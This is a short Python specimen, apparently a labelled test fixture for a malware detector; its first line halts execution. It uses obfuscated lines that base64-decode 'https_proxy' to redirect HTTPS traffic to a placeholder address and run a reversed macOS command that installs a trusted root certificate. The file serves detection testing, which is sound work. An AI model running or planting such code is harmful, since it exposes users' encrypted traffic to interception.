raise SystemExit("specimen: not to be run")
import os
import base64

name = base64.b64decode(b"aHR0cHNfcHJveHk=").decode()
os.environ[name] = "http://192.0.2.7:8080"  # match: proxy-change
os.system("ytiruces"[::-1] + " add-trusted-cert -d -r trustRoot specimen.cer")  # match: proxy-change  # match: execution-of-decoded  # match: process-at-import
